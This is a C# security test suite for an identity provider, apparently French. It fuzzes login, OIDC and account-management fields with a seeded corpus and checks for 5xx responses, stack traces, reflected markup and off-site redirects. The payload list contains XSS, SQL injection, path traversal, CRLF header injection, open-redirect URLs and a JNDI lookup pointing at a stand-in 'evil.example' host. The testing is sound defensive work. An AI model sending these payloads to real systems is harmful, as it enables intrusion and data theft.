using System.Collections.Concurrent;
using System.Net;
using System.Net.Http.Headers;
using System.Text;
using CafConnect.IdP.Tests.Support;

namespace CafConnect.IdP.Tests.Security;

/// <summary>
/// A seeded corpus of malformed, oversized and hostile values fed into every form field and protocol parameter of
/// the real host. Whatever the input: never a 5xx, never a stack trace or exception name in the body, never the
/// hostile markup reflected unencoded in HTML, never a redirect off the provider's and its clients' hosts.
/// </summary>
[TestFixture(StoreKind.Sqlite)]
[TestFixture(StoreKind.PostgreSql)]
public sealed class HostileInputTests(StoreKind kind) : StoreFixture(kind)
{
    private const int Seed = 20261124;
    private const int RandomCasesPerTarget = 20;
    private const int Workers = 4;

    /// <summary>Payloads every target gets, plus <see cref="RandomCasesPerTarget"/> seeded combinations of them.</summary>
    public static readonly string[] FixedPayloads =
    [
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'><svg/onload=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "javascript:alert(1)",
        "'; DROP TABLE \"Persons\";--",
        "' OR '1'='1",
        "1; SELECT pg_sleep(10)--",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%00",
        "a\0b",
        "\0",
        "%0d%0aSet-Cookie: pwned=1",
        "\r\nSet-Cookie: pwned=1",
        "\u202Etxt.exe",
        "\u202Dabc\u202C\u200F\u200E",
        "😀🔥👨‍👩‍👧‍👦",
        "é à ç ß Ω 中文",
        "\uFFFF\uFFFE",
        "\t\v\f",
        new string('9', 500),
        "99999999999999999999999999999999999999",
        "-1",
        "1e309",
        "NaN",
        "{\"a\":1,\"b\":[1,2,{\"c\":null}]}",
        "[\"x\",\"y\"]",
        "${jndi:ldap://evil.example/a}",
        "{{7*7}}@(1+1)",
        "https://evil.example/",
        "//evil.example",
        "/\\evil.example",
        "",
        " ",
        "null",
        "P12345678<script>alert(1)</script>",
        "2 85 03 75 112 048\"><img src=x onerror=alert(1)>",
        new string('A', 10 * 1024),
        "<script>alert(1)</script>" + new string('B', 100 * 1024),
    ];

    /// <summary>Raw, not percent-encoded by the test: malformed escapes reach the server's decoder as they are.</summary>
    public static readonly string[] RawPayloads = ["%", "%zz", "%00", "%0d%0a", "%ff%fe", "%c0%ae%c0%ae/", "%u0041", "a%2", "%%%"];

    private static readonly string[] Fragments = [.. FixedPayloads.Where(p => p.Length < 200), "<", ">", "\"", "'", "&", "=", "?", "#", ";", "\\", "%", "\u0085", "\u2028"];

    private static readonly string[] StepPaths =
        ["/premiere-connexion", "/premiere-connexion/conditions", "/premiere-connexion/mot-de-passe", "/premiere-connexion/coordonnees",
         "/premiere-connexion/verification", "/premiere-connexion/autorisations"];

    private const string ErrorPageMarker = "Référence à communiquer à votre Caf";
    private const string Jeanne = "2 85 03 75 112 048";
    private const string JeannePassword = "Soleil2Paris";
    private const string JeanneFile = "0260311";

    private readonly List<(HttpClient Browser, string Token)> _anonymous = [];
    private (HttpClient Browser, string Token) _jeanne;

    public sealed record Case(string Target, int Index, string Payload, bool Duplicate, bool Raw)
    {
        public override string ToString() =>
            $"{Target}#{Index} {(Raw ? "raw " : "")}{(Duplicate ? "dup " : "")}'{Shorten(Payload)}'";
    }

    /// <summary>Every form field and protocol parameter under test.</summary>
    public static readonly string[] Targets =
    [
        "connexion:Input.Identifier", "connexion:Input.Password", "connexion:returnUrl", "connexion:mode", "connexion:motdepasse",
        "authorize:client_id", "authorize:redirect_uri", "authorize:scope", "authorize:state", "authorize:nonce", "authorize:response_type",
        "authorize:code_challenge", "authorize:code_challenge_method", "authorize:prompt", "authorize:max_age", "authorize:login_hint",
        "token:grant_type", "token:code", "token:refresh_token", "token:code_verifier", "token:client_id", "token:redirect_uri",
        "userinfo:Authorization",
        "endsession:id_token_hint", "endsession:post_logout_redirect_uri", "endsession:state",
        "revoke:token", "revoke:token_type_hint", "revoke:client_id",
        "introspect:token", "introspect:token_type_hint", "introspect:client_id",
        "mot-de-passe-oublie:Identifier", "mot-de-passe-oublie:mode",
        "identifiant-provisoire-oublie:BirthName", "identifiant-provisoire-oublie:GivenNames",
        "identifiant-provisoire-oublie:BirthDate", "identifiant-provisoire-oublie:Contact",
        "premiere-connexion:flow(GET)", "premiere-connexion:flow(POST)",
        "mon-compte/autorisations:FileNumber", "mon-compte/autorisations:Delegate", "mon-compte/autorisations:modifie",
    ];

    /// <summary>The whole corpus, the same on every run (seeded).</summary>
    public static IReadOnlyList<Case> Corpus()
    {
        var random = new Random(Seed);
        var cases = new List<Case>();
        foreach (var target in Targets)
        {
            var index = 0;
            foreach (var payload in FixedPayloads)
            {
                cases.Add(new Case(target, index, payload, Duplicate: index % 5 == 4, Raw: false));
                index++;
            }
            foreach (var payload in RawPayloads)
            {
                cases.Add(new Case(target, index++, payload, Duplicate: false, Raw: true));
            }
            for (var i = 0; i < RandomCasesPerTarget; i++)
            {
                var builder = new StringBuilder();
                var parts = random.Next(1, 5);
                for (var p = 0; p < parts; p++)
                {
                    builder.Append(Fragments[random.Next(Fragments.Length)]);
                    if (random.Next(3) == 0)
                    {
                        // A few random code points, control characters and non-BMP included (no lone surrogates: not UTF-8).
                        for (var c = random.Next(1, 8); c > 0; c--)
                        {
                            builder.Append(char.ConvertFromUtf32(random.Next(4) == 0 ? random.Next(0x1F300, 0x1FAFF) : random.Next(0, 0xD7FF)));
                        }
                    }
                }
                cases.Add(new Case(target, index++, builder.ToString(), Duplicate: random.Next(4) == 0, Raw: false));
            }
        }
        return cases;
    }

    [Test]
    public void The_corpus_is_deterministic_and_has_at_least_2000_cases()
    {
        var first = Corpus();
        var second = Corpus();
        Assert.That(first, Has.Count.GreaterThanOrEqualTo(2000));
        Assert.That(second.Select(c => c.ToString() + c.Payload.Length), Is.EqualTo(first.Select(c => c.ToString() + c.Payload.Length)));
        Assert.That(first.Select(c => c.Target).Distinct(), Is.EquivalentTo(Targets), "every target gets cases");
        TestContext.Out.WriteLine($"{first.Count} cases over {Targets.Length} targets");
    }

    // Explicit names: the test adapter silently drops cases whose generated name holds U+FFFF.
    [TestCase("Diallo\uFFFF\uFFFE", "DIALLO", TestName = "NormaliseName drops noncharacters after a name")]
    [TestCase("\uFFFF", "", TestName = "NormaliseName of a lone noncharacter is empty")]
    [TestCase("Aï\u0007ssa 😀", "AISSA", TestName = "NormaliseName drops controls and emoji")]
    public void Names_with_code_points_Unicode_cannot_normalise_are_cleaned_not_a_crash(string typed, string expected) =>
        Assert.That(CafConnect.IdP.Features.ProvisionalIdRecovery.ProvisionalIdReminderJourney.NormaliseName(typed), Is.EqualTo(expected));

    [OneTimeSetUp]
    public async Task OpenBrowsersAsync()
    {
        // Jeanne signs in before the corpus: hundreds of refused logins from the same address must not throttle her.
        var driver = NewBrowser();
        await driver.SignInAsync(OidcDriver.AuthorizationParameters(TestClient.CafFr, Pkce.Create()), Jeanne, JeannePassword);
        var page = await driver.Browser.GetAsync("/mon-compte/autorisations");
        Assert.That(page.StatusCode, Is.EqualTo(HttpStatusCode.OK), "Jeanne's authorizations page");
        _jeanne = (driver.Browser, OidcDriver.LoginForm(await page.Content.ReadAsStringAsync()).Token);

        for (var i = 0; i < Workers; i++)
        {
            var browser = NewBrowser().Browser;
            var login = await browser.GetAsync("/connexion");
            _anonymous.Add((browser, OidcDriver.LoginForm(await login.Content.ReadAsStringAsync()).Token));
        }
    }

    [TestCaseSource(nameof(Targets))]
    public async Task Hostile_values_in(string target)
    {
        var cases = Corpus().Where(c => c.Target == target).ToList();
        var failures = new ConcurrentBag<string>();
        var statuses = new ConcurrentDictionary<int, int>();
        // Jeanne's browser carries one session: its cases run one at a time; anonymous ones on a few browsers at once.
        var lanes = target.StartsWith("mon-compte/", StringComparison.Ordinal) ? 1 : Workers;
        await Parallel.ForEachAsync(Enumerable.Range(0, lanes), async (lane, ct) =>
        {
            var (browser, token) = target.StartsWith("mon-compte/", StringComparison.Ordinal) ? _jeanne : _anonymous[lane];
            for (var i = lane; i < cases.Count; i += lanes)
            {
                var @case = cases[i];
                try
                {
                    using var request = Build(@case, token);
                    var withAntiforgery = request.Content is StringContent && request.Method == HttpMethod.Post
                        && (await request.Content.ReadAsStringAsync(ct)).Contains("__RequestVerificationToken=", StringComparison.Ordinal);
                    using var response = await browser.SendAsync(request, ct);
                    statuses.AddOrUpdate((int)response.StatusCode, 1, (_, n) => n + 1);
                    var problem = await CheckAsync(@case, response, withAntiforgery);
                    if (problem is not null)
                    {
                        failures.Add($"{@case}: {problem}");
                    }
                }
                catch (Exception e) when (e is not OperationCanceledException)
                {
                    failures.Add($"{@case}: {e.GetType().Name}: {Shorten(e.Message)}");
                }
            }
        });

        TestContext.Out.WriteLine($"{target}: {cases.Count} cases; statuses " +
            string.Join(", ", statuses.OrderBy(s => s.Key).Select(s => $"{s.Key}×{s.Value}")));
        Assert.That(failures, Is.Empty, $"{failures.Count} of {cases.Count} cases failed:\n" + string.Join("\n", failures.Take(20)));
    }

    private static async Task<string?> CheckAsync(Case @case, HttpResponseMessage response, bool withAntiforgery)
    {
        var body = await response.Content.ReadAsStringAsync();
        // A form case proves nothing if the anti-forgery check (or anything else before the handler) turned it away:
        // the generic "Demande invalide" page is expected only for values refused before any handler (NUL).
        if (withAntiforgery && response.StatusCode == HttpStatusCode.BadRequest && body.Contains(ErrorPageMarker, StringComparison.Ordinal)
            && !@case.Payload.Contains('\0') && !(@case.Raw && @case.Payload.Contains("%00", StringComparison.Ordinal)))
        {
            return "refused before reaching the page's handler (anti-forgery?)";
        }
        if ((int)response.StatusCode >= 500)
        {
            return $"status {(int)response.StatusCode}: {Shorten(body)}";
        }
        if (body.Contains("   at ", StringComparison.Ordinal) || body.Contains("Exception", StringComparison.Ordinal))
        {
            return "stack trace or exception name in the body: " + Excerpt(body, body.Contains("Exception", StringComparison.Ordinal) ? "Exception" : "   at ");
        }
        if (response.Content.Headers.ContentType?.MediaType?.Contains("html", StringComparison.OrdinalIgnoreCase) == true)
        {
            foreach (var marker in new[] { "<script>alert", "onerror=alert(1)>", "<img src=x", "<svg/onload", "onmouseover=\"alert" })
            {
                if (body.Contains(marker, StringComparison.OrdinalIgnoreCase))
                {
                    return $"hostile markup reflected unencoded: {Excerpt(body, marker)}";
                }
            }
            // A lone '<' or '"' legitimately occurs in any page: only payloads long enough to be markup are looked for.
            if (@case.Payload.Length >= 4 && @case.Payload.IndexOfAny(['<', '>', '"']) >= 0 && body.Contains(@case.Payload, StringComparison.Ordinal))
            {
                return "the payload is reflected unencoded in HTML";
            }
        }
        if (response.Headers.Location is { } location && !IsOurs(location))
        {
            return $"redirect off the provider and its clients: {Shorten(location.OriginalString)}";
        }
        return null;
    }

    /// <summary>The provider itself (relative or localhost) or a registered client's host or app scheme.</summary>
    private static bool IsOurs(Uri location)
    {
        var text = location.OriginalString;
        if (!location.IsAbsoluteUri)
        {
            return text.StartsWith('/') && !text.StartsWith("//", StringComparison.Ordinal) && !text.StartsWith("/\\", StringComparison.Ordinal);
        }
        return location.Scheme is "fr.caf.moncompte"
            || (location.Scheme is "http" or "https" && location.Host is "localhost" or "127.0.0.1");
    }

    private HttpRequestMessage Build(Case @case, string antiforgeryToken)
    {
        var (page, field) = (@case.Target[..@case.Target.IndexOf(':')], @case.Target[(@case.Target.IndexOf(':') + 1)..]);
        var v = @case.Payload;
        switch (page)
        {
            case "connexion":
                if (field is "returnUrl" or "mode" or "motdepasse")
                {
                    var query = Query(@case, field, ("returnUrl", "/connect/authorize?client_id=caf-fr"));
                    return @case.Index % 2 == 0
                        ? new HttpRequestMessage(HttpMethod.Get, "/connexion" + query)
                        : Form("/connexion" + query, @case, null, antiforgeryToken, ("Input.Identifier", "P99999999"), ("Input.Password", "Faux1motdepasse"));
                }
                return Form("/connexion", @case, field, antiforgeryToken, ("Input.Identifier", "P99999999"), ("Input.Password", "Faux1motdepasse"));

            case "authorize":
                var authorize = OidcDriver.AuthorizationParameters(TestClient.CafFr, Pkce.Create());
                return new HttpRequestMessage(HttpMethod.Get, "/connect/authorize" + Query(@case, field,
                    [.. authorize.Where(p => p.Value is not null).Select(p => (p.Key, p.Value!))]));

            case "token":
                var grant = field == "refresh_token" ? "refresh_token" : "authorization_code";
                var token = Form("/connect/token", @case, field, null,
                    ("grant_type", grant), ("code", "not-a-code"), ("refresh_token", "not-a-token"), ("code_verifier", new string('v', 43)),
                    ("client_id", TestClient.CafMobile.ClientId), ("redirect_uri", TestClient.CafMobile.RedirectUri));
                return token;

            case "userinfo":
                var userinfo = new HttpRequestMessage(HttpMethod.Get, "/connect/userinfo");
                // HTTP/1.1 header values are visible ASCII: a real server refuses anything else before the application.
                var header = new string(v.Where(c => c is >= ' ' and <= '~').ToArray());
                userinfo.Headers.TryAddWithoutValidation("Authorization", @case.Index % 2 == 0 ? "Bearer " + header : header);
                if (@case.Duplicate)
                {
                    userinfo.Headers.TryAddWithoutValidation("Authorization", "Bearer x");
                }
                return userinfo;

            case "endsession":
                return new HttpRequestMessage(HttpMethod.Get, "/connect/endsession" + Query(@case, field,
                    ("id_token_hint", "eyJhbGciOiJub25lIn0.e30."), ("post_logout_redirect_uri", TestClient.CafFr.PostLogoutRedirectUri!), ("state", "s")));

            case "revoke" or "introspect":
                var endpoint = Form($"/connect/{page}", @case, field, null, ("token", "not-a-token"), ("token_type_hint", "access_token"),
                    ("client_id", TestClient.CafFr.ClientId), ("client_secret", TestClient.CafFr.Secret!));
                return endpoint;

            case "mot-de-passe-oublie":
                return field == "mode"
                    ? Form("/mot-de-passe-oublie" + Query(@case, "mode"), @case, null, antiforgeryToken, ("Identifier", "P99999999"))
                    : Form("/mot-de-passe-oublie", @case, field, antiforgeryToken, ("Identifier", "P99999999"));

            case "identifiant-provisoire-oublie":
                return Form("/identifiant-provisoire-oublie", @case, field, antiforgeryToken,
                    ("BirthName", "DIALLO"), ("GivenNames", "Amina"), ("BirthDate", "09/05/1990"), ("Contact", "personne@example.fr"));

            case "premiere-connexion":
                var path = StepPaths[@case.Index % StepPaths.Length] + Query(@case, "flow");
                return field == "flow(GET)"
                    ? new HttpRequestMessage(HttpMethod.Get, path)
                    : Form(path, @case, null, antiforgeryToken, ("Delegate", "true"), ("FileNumber", "0412345"), ("Mobile", "0612345678"), ("Channel", "Sms"));

            case "mon-compte/autorisations":
                return field == "modifie"
                    ? new HttpRequestMessage(HttpMethod.Get, "/mon-compte/autorisations" + Query(@case, "modifie"))
                    : Form("/mon-compte/autorisations", @case, field, antiforgeryToken, ("FileNumber", JeanneFile), ("Delegate", "false"));

            default:
                throw new InvalidOperationException(page);
        }
    }

    /// <summary>A query string: the base parameters with <paramref name="field"/> replaced by the case's payload (or added).</summary>
    private static string Query(Case @case, string field, params (string Name, string Value)[] baseParameters) =>
        "?" + Encode(@case, field, baseParameters);

    private static HttpRequestMessage Form(string url, Case @case, string? field, string? antiforgeryToken, params (string Name, string Value)[] fields)
    {
        var body = field is null ? Encode(null, null, fields) : Encode(@case, field, fields);
        if (antiforgeryToken is not null)
        {
            body += "&__RequestVerificationToken=" + Uri.EscapeDataString(antiforgeryToken);
        }
        return new HttpRequestMessage(HttpMethod.Post, url)
        {
            Content = new StringContent(body, Encoding.UTF8, new MediaTypeHeaderValue("application/x-www-form-urlencoded")),
        };
    }

    private static string Encode(Case? @case, string? field, (string Name, string Value)[] parameters)
    {
        var pairs = new List<string>();
        var replaced = false;
        foreach (var (name, value) in parameters)
        {
            if (@case is not null && name == field)
            {
                if (@case.Duplicate)
                {
                    pairs.Add(name + "=" + Uri.EscapeDataString(value));
                }
                pairs.Add(name + "=" + Value(@case));
                replaced = true;
            }
            else
            {
                pairs.Add(name + "=" + Uri.EscapeDataString(value));
            }
        }
        if (@case is not null && field is not null && !replaced)
        {
            pairs.Add(field + "=" + Value(@case));
            if (@case.Duplicate)
            {
                pairs.Add(field + "=" + Value(@case));
            }
        }
        return string.Join('&', pairs);
    }

    private static string Value(Case @case) => @case.Raw ? @case.Payload : Uri.EscapeDataString(@case.Payload);

    private static string Shorten(string text)
    {
        var visible = text.Replace("\r", "\\r").Replace("\n", "\\n").Replace("\0", "\\0");
        return visible.Length <= 120 ? visible : visible[..120] + $"…({text.Length} chars)";
    }

    private static string Excerpt(string body, string marker)
    {
        var at = body.IndexOf(marker, StringComparison.OrdinalIgnoreCase);
        return Shorten(body[Math.Max(0, at - 60)..Math.Min(body.Length, at + 80)]);
    }
}
